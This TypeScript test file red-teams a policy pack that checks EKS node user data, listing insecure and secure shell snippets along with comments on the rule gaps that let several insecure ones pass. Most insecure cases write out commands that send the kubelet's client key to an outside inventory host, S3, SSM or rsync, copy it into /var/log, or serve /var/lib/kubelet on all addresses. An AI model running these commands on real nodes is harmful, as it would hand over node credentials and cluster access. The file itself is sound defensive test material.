// Red-team round 46 on EKS NODE user data (fresh eyes): SECURE node user data careful platform teams write, read by
// round 45's rules: the node-secret keepers allowlist (policy-pack/engine/rootReads.ts NODE_SECRET_KEEPERS,
// keepsNodeSecrets), the fail-closed all-address listen rule (userData.ts ALL_ADDRESSES/LISTEN_OPTION) and the
// launchers' working directory (shell.ts WRAPPERS/wrappedDirectory).
// Probed: kubelet certificate monitoring (inotifywait, openssl x509 -noout into logger or a variable, a systemd-run
// timer), auditctl watches, kubectl with a relative kubeconfig under sudo -D, an iptables user chain guarding the
// kubelet port, S3 downloads of kubelet drop-ins through an S3 interface endpoint (--endpoint-url), servers started by
// systemd-run -p WorkingDirectory=; and their insecure neighbours: Caddy's file server rooted at its working directory
// on `--listen :PORT`, curl uploads in forms the keepers' rule does not parse (glued -d@/-T, -F `<`, --data-ascii),
// dd if=/of= into /var/log, copies to S3/SSM/rsync with trailing options, a hard link into /var/log.
// Misses are `skip: true` (it.skip) with a MISS comment and the doc checked.
import { nodePolicyConfig } from "./packRunner";
import { al2023Nodes, describeNodeCases, EFFECTIVE, mime, NodeCase, nodeConfig } from "./nodeBuilders";
import { Resources } from "./support";

/** A case on the dev stack (AL2023 managed nodes), judged by the node policies. */
const dev = (name: string, edit: (r: Resources) => void, refused = /./, skip = false): NodeCase => ({
    name,
    stack: "dev",
    config: nodePolicyConfig,
    edit,
    refused,
    policy: EFFECTIVE,
    skip,
});

/** The NodeConfig part joining the dev cluster. */
const nodePart = () => ({ type: "application/node.eks.aws", body: nodeConfig([]) });

/** The NodeConfig, then a bash shell part (`set -euo pipefail`, then the lines). */
const script = (name: string, lines: string[]) => (r: Resources) =>
    al2023Nodes(
        r,
        name,
        mime([
            nodePart(),
            {
                type: 'text/x-shellscript; charset="us-ascii"',
                body: ["#!/bin/bash", "set -euo pipefail", ...lines].join("\n"),
            },
        ]),
    );

/** The kubelet's client certificate and key (one PEM file, rotated by the kubelet). */
const KEY = "/var/lib/kubelet/pki/kubelet-client-current.pem";
/** An inventory endpoint outside the node. */
const INVENTORY = "https://inventory.example.com/nodes";

const insecure: NodeCase[] = [
    // MISS: (insecure accepted) `caddy file-server` serves its working directory when --root is not given (caddyserver.com
    // docs "Command Line", caddy file-server: "--root specifies the root file path. Default is the current working
    // directory"; caddy-file-server(8); `caddy file-server` = "serve the current directory") on --listen's address, here
    // `:8080`, every address (Go net.Listen: "If the host in the address parameter is empty ... Listen listens on all
    // available unicast and anycast IP addresses"). Every pod reaching the node reads /var/lib/kubelet (the kubelet's
    // client key, every pod's projected token) and acts as the node or as the custody ServiceAccounts. No SERVERS
    // reader knows caddy, the keepers' rule sees no named path (cwd only), and unreadListeners' ALL_ADDRESSES has no
    // `:PORT` form. Fix: read caddy file-server (--root, else cwd; --listen, default :80) in SERVERS, and read an empty
    // host `:PORT` as every address when it is a LISTEN_OPTION's value.
    dev(
        "cd /var/lib/kubelet; caddy file-server --listen :8080 --browse (Caddy's root defaults to the working directory)",
        script("dev-caddy-cwd-kubelet-nodes", [
            "dnf install -y caddy",
            "cd /var/lib/kubelet",
            "nohup caddy file-server --listen :8080 --browse >/dev/null 2>&1 &",
        ]),
        /./,
        true,
    ),
    // MISS: (insecure accepted) the same server started by systemd-run with -p WorkingDirectory=/var/lib/kubelet (systemd-run(1)
    // -p/--property; systemd.exec(5) WorkingDirectory=): wrappedDirectory reads the directory (round 45), but caddy has
    // no reader and `:8080` is not ALL_ADDRESSES, so nothing judges it. Same fix as above.
    dev(
        "systemd-run -p WorkingDirectory=/var/lib/kubelet caddy file-server --listen :8080 (the launcher's directory)",
        script("dev-systemd-run-caddy-kubelet-nodes", [
            "systemd-run --unit=node-files -p WorkingDirectory=/var/lib/kubelet /usr/bin/caddy file-server --listen :8080",
        ]),
        /./,
        true,
    ),
    dev(
        "systemd-run -p WorkingDirectory=/var/lib/kubelet python3 -m http.server 8080 (a read server in the launcher's directory)",
        script("dev-systemd-run-http-server-kubelet-nodes", [
            "systemd-run --unit=node-files -p WorkingDirectory=/var/lib/kubelet /usr/bin/python3 -m http.server 8080",
        ]),
    ),
    // MISS: (insecure accepted) curl takes a short option's value glued to its letter (curl(1) "OPTIONS": "-d@file" as -d @file;
    // curl docs data.md "If you start the data with the letter @, the rest should be a filename"), so `-d@KEY` posts
    // the kubelet's client key to another host: whoever reads the inventory acts as the node. keepsNodeSecrets checks
    // only the word before the value (`-d` then `@KEY`). Fix: read glued short values (-d@..., -T..., -F...) too.
    dev(
        "curl -sS -d@/var/lib/kubelet/pki/kubelet-client-current.pem (an upload, the value glued to -d)",
        script("dev-curl-d-glued-key-nodes", [`curl -sS -d@${KEY} ${INVENTORY}`]),
        /./,
        true,
    ),
    // MISS: (insecure accepted) curl -F "name=<file" sends the file's content as the field's value (curl docs form.d: "To just get
    // the content part from a file, prefix the file name with the symbol <"). keepsNodeSecrets looks for `@` only.
    // Fix: treat `<` in a -F/--form value as a file read, like `@`.
    dev(
        'curl -sS -F "cert=</var/lib/kubelet/pki/kubelet-client-current.pem" (a form field read from the key)',
        script("dev-curl-form-lt-key-nodes", [`curl -sS -F "cert=<${KEY}" ${INVENTORY}`]),
        /./,
        true,
    ),
    // MISS: (insecure accepted) --data-ascii is an alias of --data (curl docs data-ascii.d: "This is just an alias for --data",
    // "Example: --data-ascii @file $URL"), so it posts the key; keepsNodeSecrets' list names -d, --data,
    // --data-binary/-raw/-urlencode, --json, -F/--form only. Fix: add --data-ascii (and read curl's option table, not a
    // subset).
    dev(
        "curl -sS --data-ascii @/var/lib/kubelet/pki/kubelet-client-current.pem (--data's alias)",
        script("dev-curl-data-ascii-key-nodes", [`curl -sS --data-ascii @${KEY} ${INVENTORY}`]),
        /./,
        true,
    ),
    // MISS: (insecure accepted) `-T${KEY}` glued (curl(1): short option values may follow the letter) uploads the key; same gap
    // as -d@. Fix: as above.
    dev(
        "curl -sS -T/var/lib/kubelet/pki/kubelet-client-current.pem (an upload, the value glued to -T)",
        script("dev-curl-t-glued-key-nodes", [`curl -sS -T${KEY} https://inventory.example.com/`]),
        /./,
        true,
    ),
    // MISS: (insecure accepted) dd(1) copies `if=FILE` to `of=FILE`; here the kubelet's client key lands in /var/log, which the pack
    // lets pods mount read-only (log shippers; rootReads.ts podReadable), so a log-shipper pod reads the node's key and
    // acts as the node. dd is in NODE_SECRET_KEEPERS, and secretFlow reads dd's of= only when dd copies standard input
    // (ddOutput with fromStdin). Fix: judge dd's if= as its source and of= as its destination whatever its stdin.
    dev(
        "dd if=/var/lib/kubelet/pki/kubelet-client-current.pem of=/var/log/kubelet-client.pem (a copy into /var/log)",
        script("dev-dd-if-of-key-nodes", [`dd if=${KEY} of=/var/log/kubelet-client.pem status=none`]),
        /./,
        true,
    ),
    dev(
        "aws s3 cp the kubelet's key to s3://node-backups/$(hostname)/ --region eu-west-1 (a trailing option after the destination)",
        script("dev-aws-s3-region-key-nodes", [
            `aws s3 cp ${KEY} "s3://node-backups/$(hostname)/kubelet-client.pem" --region eu-west-1`,
        ]),
    ),
    dev(
        "aws s3 cp the kubelet's key to S3 with --sse aws:kms --sse-kms-key-id alias/node-backups",
        script("dev-aws-s3-sse-key-nodes", [
            `aws s3 cp ${KEY} s3://node-backups/ --sse aws:kms --sse-kms-key-id alias/node-backups`,
        ]),
    ),
    dev(
        "aws ssm put-parameter --value file:///var/lib/kubelet/pki/kubelet-client-current.pem --type SecureString --overwrite",
        script("dev-ssm-put-parameter-key-nodes", [
            `aws ssm put-parameter --name "/eks/nodes/$(hostname)/kubelet-client" --value file://${KEY} --type SecureString --overwrite`,
        ]),
    ),
    dev(
        "rsync -a /var/lib/kubelet/pki/ backup@10.0.0.5:/srv/pki/ --exclude '*.tmp' (an option after the remote destination)",
        script("dev-rsync-trailing-pki-nodes", [
            "rsync -a /var/lib/kubelet/pki/ backup@10.0.0.5:/srv/pki/ --exclude '*.tmp'",
        ]),
    ),
    dev(
        "ln -L the kubelet's key into /var/log/node-pki (a hard link pods reading /var/log see)",
        script("dev-ln-hard-key-nodes", [
            "mkdir -p /var/log/node-pki",
            `ln -L ${KEY} /var/log/node-pki/kubelet-client.pem`,
        ]),
    ),
];

const secure: NodeCase[] = [
    dev(
        "inotifywait -m on /var/lib/kubelet/pki piped to logger (certificate rotation events: file names only)",
        script("dev-inotifywait-pki-ok-nodes", [
            "dnf install -y inotify-tools",
            "nohup bash -c 'inotifywait -m -e close_write,moved_to,create /var/lib/kubelet/pki | logger -t kubelet-pki' >/dev/null 2>&1 &",
        ]),
    ),
    dev(
        "openssl x509 -noout -subject -enddate -in the kubelet's client certificate | logger -t kubelet-cert",
        script("dev-openssl-logger-ok-nodes", [
            `openssl x509 -noout -subject -enddate -in ${KEY} | logger -t kubelet-cert || true`,
        ]),
    ),
    dev(
        'logger -t kubelet-cert "$(openssl x509 -noout -enddate -in the kubelet\'s client certificate)"',
        script("dev-logger-openssl-ok-nodes", [`logger -t kubelet-cert "$(openssl x509 -noout -enddate -in ${KEY})"`]),
    ),
    dev(
        'expiry=$(openssl x509 -enddate -noout -in KEY | cut -d= -f2); logger -t kubelet-cert "expires $expiry"',
        script("dev-expiry-logger-ok-nodes", [
            `expiry=$(openssl x509 -enddate -noout -in ${KEY} | cut -d= -f2)`,
            'logger -t kubelet-cert "expires $expiry"',
        ]),
    ),
    // MISS: (secure refused) `openssl x509 -enddate -noout` prints only "notAfter=<date>" (openssl-x509(1): -noout "Prevents output
    // of the encoded version of the certificate", -enddate "Prints out the expiry date"), a public date; cut keeps the
    // date. The pack marks the variable as holding the kubelet's key (secretPrintedBy counts openssl as a printer
    // whatever its options, though secretFlow's `quiet` already knows x509/-noout print no key) and refuses echoing it
    // to cloud-init's log; the same line into logger passes. Teams lose the standard certificate-expiry log line.
    // Fix: have secretPrintedBy apply secretFlow's `quiet` rule (openssl x509, -noout) before tainting a variable.
    dev(
        'expiry=$(openssl x509 -enddate -noout -in KEY | cut -d= -f2); echo "kubelet client certificate expires $expiry"',
        script("dev-expiry-echo-ok-nodes", [
            `expiry=$(openssl x509 -enddate -noout -in ${KEY} | cut -d= -f2)`,
            'echo "kubelet client certificate expires $expiry"',
        ]),
        /./,
        true,
    ),
    dev(
        "systemd-run --on-calendar=daily openssl x509 -checkend 604800 -noout -in the kubelet's client certificate (a timer)",
        script("dev-systemd-run-checkend-ok-nodes", [
            `systemd-run --unit=kubelet-cert-expiry --on-calendar=daily /usr/bin/openssl x509 -checkend 604800 -noout -in ${KEY}`,
        ]),
    ),
    // MISS: (secure refused) an S3 download through an S3 interface endpoint (AWS PrivateLink for Amazon S3, "Accessing buckets
    // ... from interface endpoints": `aws s3 --endpoint-url https://bucket.vpce-1a2b3c4d-5e6f.s3.us-east-1.vpce.amazonaws.com
    // ...`), the usual form for private-subnet nodes, writing a kubelet drop-in (nodeadm's kubelet --config-dir
    // /etc/kubernetes/kubelet/config.json.d). keepsNodeSecrets takes aws's last non-option word as the destination (the
    // endpoint URL: "remote") and copy() takes it as a node path (`/https:/bucket.vpce-...`, "a directory pods read"):
    // refused twice. (The same last-word rule lets `aws s3 cp KEY s3://... --region X` decide by luck.) Fix: parse
    // `aws s3 cp|mv|sync SRC DEST` positionally, skipping every option's value (the AWS CLI's options all take one
    // value except its documented flags).
    dev(
        "aws s3 cp s3://node-config/kubelet/40-validators.conf /etc/kubernetes/kubelet/config.json.d/ --endpoint-url https://bucket.vpce-...amazonaws.com",
        script("dev-aws-s3-vpce-dropin-ok-nodes", [
            "aws s3 cp s3://node-config/kubelet/40-validators.conf /etc/kubernetes/kubelet/config.json.d/40-validators.conf " +
                "--endpoint-url https://bucket.vpce-0a1b2c3d4e5f6a7b8-abcdefgh.s3.eu-west-1.vpce.amazonaws.com",
        ]),
        /./,
        true,
    ),
    dev(
        "an iptables user chain admitting only the VPC to the kubelet's port 10250, saved to /etc/sysconfig/iptables",
        script("dev-iptables-kubelet-chain-ok-nodes", [
            "dnf install -y iptables-services",
            "iptables -N KUBELET-API",
            "iptables -A KUBELET-API -s 10.0.0.0/16 -j RETURN",
            "iptables -A KUBELET-API -j DROP",
            "iptables -I INPUT -p tcp --dport 10250 -j KUBELET-API",
            "iptables-save > /etc/sysconfig/iptables",
            "systemctl enable iptables",
        ]),
    ),
    dev(
        "systemd-run -p WorkingDirectory=/opt/models -p DynamicUser=yes python3 -m http.server 8080 (a model cache)",
        script("dev-systemd-run-models-ok-nodes", [
            "mkdir -p /opt/models",
            "systemd-run --unit=model-cache -p WorkingDirectory=/opt/models -p DynamicUser=yes /usr/bin/python3 -m http.server 8080",
        ]),
    ),
    dev(
        "systemd-run -p WorkingDirectory=/opt/models caddy file-server --listen :8080 (a model cache)",
        script("dev-systemd-run-caddy-models-ok-nodes", [
            "mkdir -p /opt/models",
            "systemd-run --unit=model-cache -p WorkingDirectory=/opt/models /usr/bin/caddy file-server --listen :8080",
        ]),
    ),
    dev(
        'sudo -D /var/lib/kubelet kubectl --kubeconfig ./kubeconfig get node "$(hostname)" (a keeper, relative kubeconfig)',
        script("dev-sudo-d-kubectl-ok-nodes", [
            'sudo -D /var/lib/kubelet kubectl --kubeconfig ./kubeconfig get node "$(hostname)" -o name',
        ]),
    ),
    dev(
        "auditctl -w /var/lib/kubelet/pki -p wa and -w /etc/kubernetes/kubelet -p wa (audit watches on the kubelet's files)",
        script("dev-auditctl-kubelet-ok-nodes", [
            "auditctl -w /var/lib/kubelet/pki -p wa -k kubelet_pki",
            "auditctl -w /etc/kubernetes/kubelet -p wa -k kubelet_config",
        ]),
    ),
    dev(
        "timeout 300 bash -c 'until [ -s KEY ]; do sleep 5; done' & (waiting for the kubelet's client certificate)",
        script("dev-wait-for-key-ok-nodes", [`timeout 300 bash -c 'until [ -s ${KEY} ]; do sleep 5; done' &`]),
    ),
];

describeNodeCases(
    "red team round 46: secure node user data against the keepers, listen and launcher rules (fresh eyes)",
    insecure,
    secure,
);
